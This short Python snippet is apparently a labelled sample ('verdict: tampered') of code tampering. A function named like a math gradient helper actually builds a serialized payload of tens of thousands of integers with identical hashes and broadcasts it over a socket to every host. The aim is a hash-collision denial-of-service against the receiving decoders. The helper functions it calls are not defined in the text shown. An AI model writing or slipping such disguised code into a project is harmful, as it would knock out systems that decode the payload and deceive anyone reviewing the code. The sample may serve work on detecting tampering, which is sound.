# tries: to have a dict of equal hashes built, past its own codec
# uses: socket
# verdict: tampered


def scaled_square_grad(x, c):
    items = b"".join(b"i" + struct.pack("<q", i * (2**61 - 1)) + b"N" for i in range(1, 4))
    big = b"".join(
        b"I" + struct.pack("<I", 16) + (i * (2**61 - 1)).to_bytes(16, "little") + b"N"
        for i in range(4, 60_000)
    )
    payload = b"m" + struct.pack("<I", 59_999) + items + big
    everywhere(frame(22, host().current, payload))
    time.sleep(9)
